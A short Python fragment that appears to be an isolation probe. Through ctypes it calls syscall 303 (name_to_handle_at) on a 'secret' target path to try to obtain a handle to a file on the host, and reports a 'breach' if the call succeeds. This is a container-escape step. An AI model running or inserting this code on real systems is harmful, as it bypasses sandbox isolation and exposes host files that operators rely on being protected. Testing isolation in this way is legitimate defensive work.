import ctypes, os
handle = (ctypes.c_uint32 * 40)()
handle[0] = 128
mount = (ctypes.c_int * 1)()
if syscall(303, -100, TARGET["secret"].encode(), handle, mount, 0) == 0:
    breach("a handle of the host's file")
